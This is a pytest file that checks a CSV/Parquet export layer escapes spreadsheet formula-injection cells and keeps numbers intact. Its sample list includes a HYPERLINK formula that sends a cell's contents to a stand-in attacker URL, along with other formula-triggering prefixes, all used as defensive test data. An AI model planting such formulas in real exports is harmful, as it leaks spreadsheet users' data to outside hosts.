"""No CSV file that we write holds a cell that a spreadsheet runs; numbers stay numbers, texts can be read back."""

import csv
import io
import re
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.platform.spreadsheets import RUNS, cell, text_of
from local.analyst.output import Answer, as_cells, write
from local.row_files import RefusedFile, RefusedRow, columns_of, read_rows
from processors.person_exports import Table

RUNNING = [
    '=HYPERLINK("http://evil?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "'=1",
]
QUIET = ["", "ann", "'", "a=1", " -", "x@y.example"]


def is_quiet(written: str) -> bool:
    """Whether a spreadsheet takes a cell for a text, or a number."""
    try:
        float(written)
    except ValueError:
        return not written or written[0] not in RUNS
    return True


@pytest.mark.parametrize("text", RUNNING)
def test_a_text_that_would_run_has_a_sign_before_it(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("value", [*QUIET, -5, -5.5, None, True, b"=1"])
def test_all_else_stays_as_it_is(value: Any) -> None:
    assert cell(value) is value


@given(st.text(max_size=8) | st.text("'=+a", max_size=4) | st.sampled_from(RUNNING))
def test_what_is_written_is_quiet_and_can_be_read_back(text: str) -> None:
    written = str(cell(text))
    assert written[:1] not in tuple(RUNS)
    assert text_of(written) == text


def test_an_export_holds_no_cell_that_runs() -> None:
    rows = [{"key": each, each: -5, "points": -5, "nested": {"=": "=1"}} for each in RUNNING]
    table = Table(io.StringIO())
    list(table.texts(rows))
    told = list(csv.DictReader(io.StringIO(b"".join(table.lines()).decode(), newline="")))
    assert all(is_quiet(each or "") for row in told for each in (*row, *row.values()))
    assert [row["points"] for row in told] == ["-5"] * len(rows)
    assert [row["key"] for row in told] == [f"'{each}" for each in RUNNING]


def is_quoted(line: str) -> bool:
    return re.fullmatch(r'("([^"]|"")*",)*"([^"]|"")*"', line) is not None


def test_a_semicolon_begins_no_cell(tmp_path: Path) -> None:
    """Where the decimal sign is a comma, a spreadsheet splits what is not quoted at a semicolon."""
    table = Table(io.StringIO())
    list(table.texts([{"key": "k;=1+1", "points": -5}]))
    assert all(map(is_quoted, b"".join(table.lines()).decode().splitlines()))
    source = tmp_path / "old.csv"
    source.write_text("user_id,;=note\nu,;=1+1\n")
    with RefusedFile(source, columns_of(source)) as refused:
        refused.add(RefusedRow(2, "user_id", "is odd", {"user_id": "u", ";=note": ";=1+1"}))
    assert all(map(is_quoted, refused.path.read_text().splitlines()))


@pytest.mark.parametrize(
    "kind", [pa.string(), pa.large_string(), pa.string_view(), pa.dictionary(pa.int32(), pa.string())]
)
def test_an_answer_of_the_warehouse_in_a_file_holds_no_cell_that_runs(
    kind: pa.DataType, tmp_path: Path
) -> None:
    texts = [*RUNNING, None, *QUIET]
    columns = [pa.array(texts, kind), pa.array([-5] * len(texts)), pa.array([-0.5] * len(texts))]
    batch = pa.RecordBatch.from_arrays(columns, names=["=1+1", "-n", "x"])
    path = tmp_path / "x.csv"
    assert write(Answer("laptop", batch.schema, iter([batch])), path) == len(texts)
    with path.open(newline="") as file:
        header, *told = csv.reader(file)
    assert header == ["'=1+1", "'-n", "x"]
    assert [row[0] for row in told] == [str(cell(each)) if each is not None else "" for each in texts]
    assert {tuple(row[1:]) for row in told} == {("-5", "-0.5")}
    table = pa.Table.from_batches([batch])
    assert as_cells(table).column(0).to_pylist() == [each and cell(each) for each in texts]
    write(Answer("laptop", batch.schema, iter([batch])), tmp_path / "x.parquet")
    assert pa.parquet.read_table(tmp_path / "x.parquet").column(0).to_pylist() == texts  # which nothing runs


def test_a_file_of_refused_lines_is_quiet_and_is_imported_as_it_was(tmp_path: Path) -> None:
    source = tmp_path / "old.csv"
    with source.open("w", newline="") as file:
        csv.writer(file).writerows(
            [["user_id", "=note"], *([f"u{n}", each] for n, each in enumerate(RUNNING))]
        )
    before = [each.values for each in read_rows(source)]
    with RefusedFile(source, columns_of(source)) as refused:
        for line, values in enumerate(before):
            refused.add(RefusedRow(line, "user_id", "is odd", values))
    with refused.path.open(newline="") as file:
        assert all(is_quiet(each) for row in csv.reader(file) for each in row)
    assert [each.values for each in read_rows(refused.path)] == before
